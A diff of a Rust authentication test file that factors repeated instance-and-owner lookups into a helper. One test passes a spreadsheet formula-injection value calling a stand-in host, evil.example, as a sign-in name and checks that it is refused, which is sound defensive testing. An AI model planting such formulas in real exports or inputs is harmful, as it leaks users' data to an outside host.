@@ -80,6 +80,20 @@ async fn newest_mail(portal: &Portal) -> model::outbox::OutboxMail {
         .remove(0)
 }
 
+/// The instance "acme" and its owner, as set up by [`set_up`].
+async fn owner(portal: &Portal) -> (i64, users::User) {
+    let mut conn = portal.db.pool.acquire().await.unwrap();
+    let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
+        .await
+        .unwrap()
+        .unwrap();
+    let user = users::find_by_email(&mut conn, instance.id, EMAIL)
+        .await
+        .unwrap()
+        .unwrap();
+    (instance.id, user)
+}
+
 /// First run plus TOTP enrolment; returns the secret and recovery codes.
 async fn set_up(portal: &Portal) -> (String, Vec<String>) {
     let url = setup::issue_setup_url(portal).await.unwrap();
@@ -520,17 +534,10 @@ on_both_databases!(
         let typed = format!("=HYPERLINK(\"http://evil.example/?\"&A1){}", "x".repeat(2000));
         let refused = auth::sign_in_with_password(&portal, "acme", &typed, "wrong", client()).await;
         assert!(refused.is_err());
+        let (instance_id, owner) = owner(&portal).await;
         let mut conn = portal.db.pool.acquire().await.unwrap();
-        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
-            .await
-            .unwrap()
-            .unwrap();
-        let owner = users::find_by_email(&mut conn, instance.id, EMAIL)
-            .await
-            .unwrap()
-            .unwrap();
         let root = domain::access::Viewer {
-            instance_id: instance.id,
+            instance_id,
             user_id: owner.id,
             email: EMAIL.into(),
             role: Role::Superuser,
@@ -576,15 +583,8 @@ on_both_databases!(parallel_guesses_never_outrun_the_limits, |t: TestDb| async m
     }
     assert!(checked <= 5, "{checked} passwords checked of 24 parallel guesses");
 
+    let (_, user) = owner(&portal).await;
     let mut conn = portal.db.pool.acquire().await.unwrap();
-    let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
-        .await
-        .unwrap()
-        .unwrap();
-    let user = users::find_by_email(&mut conn, instance.id, EMAIL)
-        .await
-        .unwrap()
-        .unwrap();
     let token = sessions::create(
         &mut conn,
         user.id,
@@ -671,19 +671,10 @@ on_both_databases!(
         auth::check_link(&portal, domain::tokens::Purpose::PasswordReset, &link)
             .await
             .expect("the newest link works");
-        let mut conn = portal.db.pool.acquire().await.unwrap();
-        let instance = domain::instances::find_by_homerealm(&mut conn, "acme")
-            .await
-            .unwrap()
-            .unwrap();
-        let owner = users::find_by_email(&mut conn, instance.id, EMAIL)
-            .await
-            .unwrap()
-            .unwrap();
-        drop(conn);
+        let (instance_id, owner) = owner(&portal).await;
         let admin = domain::testkit::add_user(
             &mut portal.db.pool.acquire().await.unwrap(),
-            instance.id,
+            instance_id,
             "second-root@acme.example",
             Role::Superuser,
             true,
